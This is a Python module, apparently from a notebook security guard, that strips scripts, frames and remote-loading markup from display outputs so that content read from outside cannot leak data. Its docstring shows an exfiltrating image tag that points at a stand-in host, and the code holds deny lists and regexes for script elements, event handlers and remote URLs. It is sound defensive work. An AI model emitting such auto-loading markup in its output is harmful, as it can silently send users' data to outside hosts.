"""What a display would load from elsewhere by itself: pictures, frames, scripts. An address can carry data away.

A page that shows ``<img src="http://stranger/?d=…">`` has sent it. So where a session has read content from outside, what
it shows is shown without what loads by itself; what is left says so.
"""

from __future__ import annotations

import contextlib
import re
from collections.abc import Collection, Mapping
from html.parser import HTMLParser
from typing import Any, Final

from llmos_nb.guard.taint import host_of
from llmos_nb.guard.verdict import names

__all__ = ["LEFT_OUT", "loads", "without_remote", "without_remote_text"]

#: Kinds of output that run code, or whose code is elsewhere.
_ACTIVE: Final = (
    "application/javascript", "text/javascript", "application/ecmascript", "application/x-javascript",
    "application/vnd.holoviews", "application/vnd.jupyter.widget-view+json", "application/vnd.dash", "application/pdf",
)  # fmt: skip
_MARKUP: Final = ("text/html", "image/svg", "text/latex", "application/xhtml", "text/xml", "application/xml")
#: Elements that run or load something, or that send what is put into them.
_ELEMENTS: Final = names(
    "script iframe frame frameset object embed applet base meta link form video audio source track portal "
    "animate set template fencedframe noscript noembed plaintext xmp"
)
_ATTRIBUTES: Final = names(
    "src srcset xlink:href poster background data action formaction ping longdesc manifest lowsrc dynsrc "
    "imagesrcset classid codebase archive icon"
)
_ADDRESS: Final = re.compile(r"(?:^|[\s,])\s*(?:[a-z][a-z0-9+.\-]*:)?[/\\]{2}", re.IGNORECASE)
#: The same in text that a browser may read otherwise than a parser does.
_RAW: Final = re.compile(
    r"(?:src|srcset|xlink:href|poster|background|data|action)\s*=\s*[\"']?[^\"'>]{0,200}?(?:[a-z][a-z0-9+.\-]*:)?[/\\]{2}",
    re.IGNORECASE,
)
_SCRIPT: Final = re.compile(
    r"<\s*(?:script|iframe|object|embed|meta|link|base)\b|<[^<>]*[\s/\"']on[a-z]{3,}\s*=", re.IGNORECASE
)
_CSS: Final = re.compile(
    r"url\s*\(|@import|image-set\s*\(|-moz-binding|expression\s*\(|src\s*\(|\\[0-9a-f]|/\*", re.IGNORECASE
)
_LOCAL_CSS: Final = re.compile(r"url\s*\(\s*[\"']?(?:#|data:(?:image|font)/)[^)]*\)", re.IGNORECASE)
#: Markdown: a picture, a link, a definition, an address as it stands.
_PICTURE: Final = re.compile(r"!\[((?:[^\[\]]|\[[^\[\]]*\])*)\]\s*(?:\([^)]*\)|\[[^\]]*\])")
_LINK: Final = re.compile(r"(?<!!)\[((?:[^\[\]]|\[[^\[\]]*\])*)\]\(\s*<?([^)>\s]*)[^)]*\)")
_DEFINITION: Final = re.compile(r"^[ \t>]{0,12}\[[^\]\n]+\]:[ \t]*<?(\S+).*$", re.MULTILINE)
_PLAIN: Final = re.compile(r"<?\b(?:https?|ftp)://[^\s<>\"'`)\]]+>?", re.IGNORECASE)
#: From as many backticks to the next as many, no more and no fewer.
_CODE: Final = re.compile(r"(?<!`)(`++)[\s\S]*?(?<!`)\1(?!`)")
_STRANGE: Final = re.compile(r"(?:[a-z][a-z0-9+.\-]*:)?[/\\]{2}|(?:javascript|vbscript|data):", re.IGNORECASE)
#: Keys of plain data under which libraries look for something to load.
_KEYS: Final = names("url urls src source href image images icon mapstyle style tiles data topojsonurl sprite glyphs")
LEFT_OUT: Final = (
    "[left out: this output runs scripts or loads something from elsewhere, and this session has read content from "
    "outside; run the code yourself to see it]"
)


class _Reader(HTMLParser):
    """Looks for what loads; ``hosts`` may be linked to."""

    def __init__(self, hosts: Collection[str]) -> None:
        super().__init__(convert_charrefs=True)
        self.found, self._hosts, self._style = False, hosts, False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._style = tag == "style"
        self.found = self.found or tag.rpartition(":")[2] in _ELEMENTS
        for name, value in attrs:
            text = re.sub(r"[\x00-\x20]", "", value or "") if name != "style" else value or ""
            if name.startswith("on") or (name in _ATTRIBUTES and _ADDRESS.search(value or "")):
                self.found = True
            elif name == "style" or (name in _PAINTED and "url" in text.casefold()):
                self.found = self.found or _loads_css(text)
            elif name == "href":
                linked = tag in ("a", "area")
                self.found = self.found or bool(
                    _STRANGE.match(text) and (not linked or host_of(text) not in self._hosts)
                )

    def handle_endtag(self, tag: str) -> None:
        self._style = False

    def handle_data(self, data: str) -> None:
        if self._style and _loads_css(data):
            self.found = True


_PAINTED: Final = names("fill stroke filter mask clip-path cursor marker marker-start marker-mid marker-end")


def _loads_css(text: str) -> bool:
    return bool(_CSS.search(_LOCAL_CSS.sub("", text)))


def loads(markup: str, hosts: Collection[str] = ()) -> bool:
    """Whether HTML, SVG or the HTML in Markdown runs or loads something by itself, or links to a stranger."""
    if "<" not in markup:
        return False
    if _SCRIPT.search(markup) or _RAW.search(re.sub(r"\sxmlns(?::\w+)?\s*=\s*(\"[^\"]*\"|'[^']*')", "", markup)):
        return True
    reader = _Reader(hosts)
    with contextlib.suppress(AssertionError):
        reader.feed(markup)
        reader.close()
        return reader.found
    return True


def without_remote(data: Mapping[str, Any], hosts: Collection[str] = ()) -> dict[str, Any]:
    """A display's data without what runs or loads something; ``hosts`` are those that the person named.

    Where only words are left of it, they say that something was left out.
    """
    kept: dict[str, Any] = {}
    for kind, value in data.items():
        name = kind.casefold()
        if name.startswith(_ACTIVE) or "bokeh" in name:
            continue
        if isinstance(value, str) and "markdown" in name:
            kept[kind] = without_remote_text(value, hosts)
        elif isinstance(value, str) and name.startswith(_MARKUP):
            if not loads(value, hosts):
                kept[kind] = value
        else:
            kept[kind] = _plain(value, hosts, "", 0) if isinstance(value, dict | list) else value
    if len(kept) < len(data) and all(kind == "text/plain" for kind in kept):
        before = kept.get("text/plain")
        kept["text/plain"] = f"{before}\n{LEFT_OUT}" if isinstance(before, str) and before else LEFT_OUT
    return kept


def _plain(value: Any, hosts: Collection[str], key: str, depth: int) -> Any:
    if depth > 60:
        return None
    if isinstance(value, dict):
        return {name: _plain(item, hosts, str(name).casefold(), depth + 1) for name, item in value.items()}
    if isinstance(value, list | tuple):
        return [_plain(item, hosts, key, depth + 1) for item in value]
    if isinstance(value, str):
        if key in _KEYS and _STRANGE.match(value.strip()) and not value.startswith("data:image/"):
            return value if host_of(value) in hosts else ""
        return "" if loads(value, hosts) else value
    return value


def without_remote_text(text: str, hosts: Collection[str] = ()) -> str:
    """Markdown whose pictures are not fetched and whose links to strangers are text."""
    if "//" not in text and "\\\\" not in text and "<" not in text and "![" not in text and "]:" not in text:
        return text
    # Pictures and markup are taken out of what looks like code, too: parsers do not agree on where code begins.
    text = _PICTURE.sub(lambda found: f"{found[1]} (picture left out)".strip(), text).replace("![", "! [")
    if loads(text, hosts):
        text = re.sub(r"<(?=[A-Za-z/!?])", "&lt;", text)
    pieces, at = [], 0
    for code in _CODE.finditer(text):
        pieces += [_no_links(text[at : code.start()], hosts), code[0]]
        at = code.end()
    return "".join([*pieces, _no_links(text[at:], hosts)])


def _no_links(text: str, hosts: Collection[str]) -> str:
    def stranger(url: str) -> bool:
        return bool(_STRANGE.match(url)) and host_of(url) not in hosts

    text = _DEFINITION.sub(lambda found: "" if stranger(found[1]) else found[0], text)
    text = _LINK.sub(lambda found: f"{found[1]} ({found[2]})" if stranger(found[2]) else found[0], text)
    return _PLAIN.sub(lambda f: f"`{f[0].strip('<>')}`" if stranger(f[0].strip("<>")) else f[0], text)
